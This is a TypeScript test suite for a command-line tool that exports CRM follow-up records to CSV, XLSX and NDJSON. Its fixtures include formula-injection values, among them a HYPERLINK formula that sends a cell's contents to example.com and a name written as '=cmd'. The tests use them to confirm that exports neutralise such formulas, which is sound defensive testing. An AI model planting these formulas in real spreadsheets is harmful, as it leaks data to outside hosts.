import assert from 'node:assert/strict'
import { execFile, execFileSync } from 'node:child_process'
import {
  existsSync,
  lstatSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { promisify } from 'node:util'
import { addCompany, exportText, genjin, genjinDone, startGenjin } from '../support/cli.ts'
import type { TestClient } from '../support/client.ts'
import { assertFails } from '../support/failures.ts'
import { doubleRecord, platformDouble } from '../support/platform-double.ts'
import { follow, startTestServer, type TestServer } from '../support/server.ts'
import { credentialsFile } from '../support/serving.ts'
import { csvRecords, partOf, xlsxSheets } from '../support/sheets.ts'
import { tempFolder } from '../support/temp-folder.ts'

const FORMULA = `=HYPERLINK("http://example.com/?"&A1,"点我")`

let server: TestServer
let client: TestClient
let folder: ReturnType<typeof tempFolder>
let app: string

before(async () => {
  server = await startTestServer()
  folder = tempFolder()
  client = await server.company('sales', [
    { kind: 'department', id: 1, name: '销售部' },
    { kind: 'staff', user_id: 'zhang', name: '张伟', department_ids: [1] },
    { kind: 'staff', user_id: 'li', name: '=cmd', department_ids: [2] },
    {
      kind: 'custom_field',
      key: 'level',
      name: '@等级',
      type: 'single',
      options: [{ id: 'a', name: '+重点' }],
    },
    ...Array.from({ length: 2300 }, (_, index) =>
      follow({
        id: index + 1,
        follow_user_id: index % 2 ? 'zhang' : 'li',
        content: index === 7 ? FORMULA : `第 ${index} 次\n"报价",-${index}`,
        follow_time: Date.UTC(2025, 0, 1) + index * 1_800_000,
        business_type: index % 3 ? 1 : 3,
        field_map: { level: 'a', rate: index },
      }),
    ),
    follow({ id: 1538877699425540, system: true, title: '客户入群' }),
    { kind: 'target', type: 1, id: 'c1', name: '示例科技' },
    { kind: 'target', type: 3, id: 'c1', name: '=二期' },
  ])
  app = credentialsFile(folder.path, client.credentials)
})

after(async () => {
  await server[Symbol.asyncDispose]()
  folder[Symbol.dispose]()
})

const remote = () => ['export', '--from', server.url, '--app', app]
const local = () => ['export', '--corp', 'sales', '--database', server.temp.database]

async function csvRows(args: readonly string[]): Promise<Record<string, string>[]> {
  const { stdout } = await genjinDone([...args, '--format', 'csv'])
  return csvRecords(stdout)
}

test('csv from a server and from a database: the same, every follow-up once, newest first, with BOM', async () => {
  const { stdout, stderr } = await genjinDone([...remote(), '--format', 'csv'])
  assert.equal(stderr, '已导出：2300 条跟进\n')
  assert.ok(stdout.startsWith('\ufeff跟进ID,跟进时间,跟进人ID,跟进人,部门,跟进内容,'))
  assert.equal((await genjinDone([...local(), '--format', 'csv'])).stdout, stdout)
  const rows = csvRecords(stdout)
  assert.deepEqual(
    rows.map((row) => row.跟进ID),
    Array.from({ length: 2300 }, (_, index) => String(2300 - index)),
  )
  assert.equal(rows.at(-1)?.跟进时间, '2025-01-01 08:00:00')
  assert.deepEqual(new Set(rows.map((row) => row.部门)), new Set(['销售部', '']))
  assert.deepEqual(new Set(rows.map((row) => row.对象类型)), new Set(['客户', '商机']))
})

test('names of objects: from a database, and from a server that has them in its older lists', async () => {
  const named = (rows: Record<string, string>[]) =>
    new Set(rows.map((row) => `${row.对象类型}${row.对象名称}`))
  const wanted = new Set(['客户示例科技', "商机'=二期"])
  assert.deepEqual(named(await csvRows(local())), wanted)
  assert.deepEqual(named(await csvRows(remote())), wanted)
})

test('formulas are made harmless in content, names and headings, unless --raw', async () => {
  const [row] = await csvRows([...remote(), '--id-list', '8'])
  assert.equal(row?.跟进内容, `'${FORMULA}`)
  const [other] = await csvRows([...remote(), '--id-list', '1'])
  assert.equal(other?.跟进人, "'=cmd")
  assert.equal(other?.["'@等级"], "'+重点")
  const [raw] = await csvRows([...remote(), '--id-list', '8', '--raw', '--headings', 'fields'])
  assert.equal(raw?.content, FORMULA)
  assert.equal(raw?.['field_map.level'], '+重点')
  assert.equal(raw?.field_map, '{"rate":7}')
})

test('xlsx: opened by another reader, formulas are texts', async () => {
  const out = join(folder.path, 'sales.xlsx')
  const { stdout } = await genjinDone([...remote(), '--format', 'xlsx', '--out', out])
  assert.equal(stdout, '已导出：2300 条跟进\n')
  assert.equal(statSync(out).mode & 0o777, 0o600)
  const [{ data: rows } = { data: [] }] = await xlsxSheets(readFileSync(out))
  assert.equal(rows.length, 2301)
  const [head = [], ...cells] = rows
  assert.equal(head[0], '跟进ID')
  const content = head.indexOf('跟进内容')
  assert.equal(cells[2300 - 8]?.[content], FORMULA)
  assert.ok(cells[0]?.[1] instanceof Date)
  // No cell is stored as a formula.
  const sheet = partOf(readFileSync(out), 'xl/worksheets/sheet1.xml')
  assert.doesNotMatch(sheet, /<f[ >]/)
})

test('ndjson can be imported, and holds what follow/list returns', async () => {
  const out = join(folder.path, 'sales.ndjson')
  await genjinDone([...remote(), '--format', 'ndjson', '--out', out, '--target-type', '3'])
  await addCompany(server.temp.database, 'again')
  await genjinDone(['import', out, '--corp', 'again', '--database', server.temp.database])
  const records = (text: string) => text.split('\n').filter((line) => line.includes('"business_type":3,'))
  const [again, first] = [
    await exportText(server.temp.database, 'again'),
    await exportText(server.temp.database, 'sales'),
  ]
  const plain = (line: string) => line.replace(/"create_time":\d+,"update_time":\d+/, '')
  assert.deepEqual(records(again).map(plain), records(first).map(plain))
})

test('the filters are those of follow/list', async () => {
  for (const [options, body] of [
    [['--target-type', '3'], { target_type: 3 }],
    [['--follow-user-ids', 'zhang,nobody'], { follow_user_ids: ['zhang', 'nobody'] }],
    [['--follow-dep-ids', '1', '--fetch-child', '0'], { follow_dep_ids: [1], fetch_child: 0 }],
    [
      '--follow-time-start 2025-01-10 --follow-time-end 2025-01-12 --follow-type-name 电话跟进'.split(' '),
      { follow_time_start: '2025-01-10', follow_time_end: '2025-01-12', follow_type_name: '电话跟进' },
    ],
    [['--id-list', '5, 6,7'], { id_list: ['5', '6', '7'] }],
    [
      ['--target-id-list', 'c1', '--follow-type-list', '1', '--title', 'x'],
      { target_id_list: ['c1'], follow_type_list: [1], title: 'x' },
    ],
  ] as const) {
    const { total } = await client.list(body)
    const rows = await csvRows([...local(), ...options])
    assert.equal(rows.length, total, options.join(' '))
  }
})

test('from a server that has only the documented operations', async () => {
  const records = Array.from({ length: 2500 }, (_, index) =>
    doubleRecord(index, Date.UTC(2024, 2, 1) + index * 3_600_000),
  )
  await using platform = await platformDouble(records)
  const args = ['export', '--from', platform.url, '--appid', 'wxapp', '--format', 'csv']
  const { stdout } = await genjinDone(args, { env: { GENJIN_APP_SECRET: 'wxsecret' } })
  const rows = csvRecords(stdout)
  assert.equal(rows.length, 2500)
  assert.equal(rows[0]?.跟进ID, '1538877699425542596')
  assert.equal(rows[0]?.跟进人, '张伟')
  assert.equal(rows[0]?.其他自定义字段, '{"amount":2499.50,"no":12345678901234567890}')
  assert.ok(platform.deepest <= 1000)
})

test('refusals leave no file: filters, options, a missing folder; nor does Ctrl-C', async () => {
  const out = join(folder.path, 'none.csv')
  const refused = await genjin([...remote(), '--format', 'csv', '--out', out, '--target-type', '77'])
  assert.equal(refused.code, 1)
  assert.match(refused.stderr, /40020 .*target_type.*1、3、4/)
  for (const wrong of [
    [...remote(), '--format', 'pdf'],
    [...remote(), '--format', 'csv', '--headings', 'en'],
    [...remote()],
    [...local(), '--raw'],
    [...remote(), '--corp', 'sales', '--format', 'csv'],
    ['export', '--format', 'csv'],
  ]) {
    assert.equal((await genjin([...wrong, '--out', out])).code, 2, wrong.join(' '))
  }
  await using process = startGenjin([...local(), '--format', 'xlsx', '--out', out])
  process.kill('SIGINT')
  await process.ended
  const missing = join(folder.path, 'no/such/folder.csv')
  const { code } = await genjin([...remote(), '--format', 'csv', '--out', missing])
  assert.equal(code, 1)
  assert.ok(!existsSync(out))
  assert.deepEqual(
    readdirSync(folder.path).filter((name) => name.includes('none')),
    [],
  )
})

test('--json reports the number of rows', async () => {
  const out = join(folder.path, 'few.csv')
  const options = ['--format', 'csv', '--out', out, '--id-list', '1,2', '--json']
  const { stdout } = await genjinDone([...remote(), ...options])
  assert.deepEqual(JSON.parse(stdout), { rows: 2, shortened: 0 })
})

test('two exports into one file at once: the file is that of one of them, complete', async () => {
  const out = join(folder.path, 'both.csv')
  const options = ['--format', 'csv', '--out', out, '--headings', 'fields']
  const args = (...more: string[]) => [...local(), ...options, ...more]
  await Promise.all([genjinDone(args()), genjinDone(args('--target-type', '3'))])
  const rows = csvRecords(readFileSync(out))
  assert.equal(new Set(rows.map(({ id }) => id)).size, rows.length)
  assert.ok(rows.length === 2300 || rows.every(({ business_type }) => business_type === '3'))
  assert.deepEqual(
    readdirSync(folder.path).filter((name) => name.includes('.part')),
    [],
  )
})

test('--out: a link is followed, a folder refused before anything is read, - is standard output, a pipe is written to', async () => {
  const args = (out: string) => [...local(), '--format', 'csv', '--id-list', '1', '--out', out]
  const inFolder = (name: string) => join(folder.path, name)
  const [real, link, pipe] = [inFolder('real.csv'), inFolder('link.csv'), inFolder('pipe')]
  writeFileSync(real, 'before')
  symlinkSync(real, link)
  await genjinDone(args(link))
  assert.ok(lstatSync(link).isSymbolicLink())
  assert.match(readFileSync(real, 'utf8'), /跟进ID/)
  for (const bad of [folder.path, `${inFolder('new')}/`, '']) {
    const { code, stderr } = await genjin(args(bad))
    assert.equal(code, bad === folder.path ? 1 : 2, stderr)
    assert.match(stderr, /--out/)
  }
  const { stdout, stderr } = await genjinDone(args('-'))
  assert.match(stdout, /^\ufeff跟进ID/)
  assert.match(stderr, /已导出：1 条/)
  execFileSync('mkfifo', [pipe])
  const reading = promisify(execFile)('cat', [pipe])
  await genjinDone(args(pipe))
  assert.match((await reading).stdout, /跟进ID/)
  assert.ok(lstatSync(pipe).isFIFO())
})

test('an option that is given twice is refused', async () => {
  const options = '--format csv --target-type 1 --target-type 3'.split(' ')
  await assertFails([[[...local(), ...options], 2, /--target-type 给出了多次/]])
})

test('no server, no such host, not a genjin: reported soon, with the reason and without a stack', async () => {
  const cases = [
    ['http://127.0.0.1:9', /--from http:\/\/127\.0\.0\.1:9 连接被拒绝/],
    ['http://no.such.host.invalid', /找不到这个主机/],
    [`${server.url}/elsewhere`, /40400|404/],
  ] as const
  const args = (url: string) => ['export', '--from', url, '--app', app, '--format', 'csv']
  await assertFails(cases.map(([url, reason]) => [args(url), 1, reason]))
})
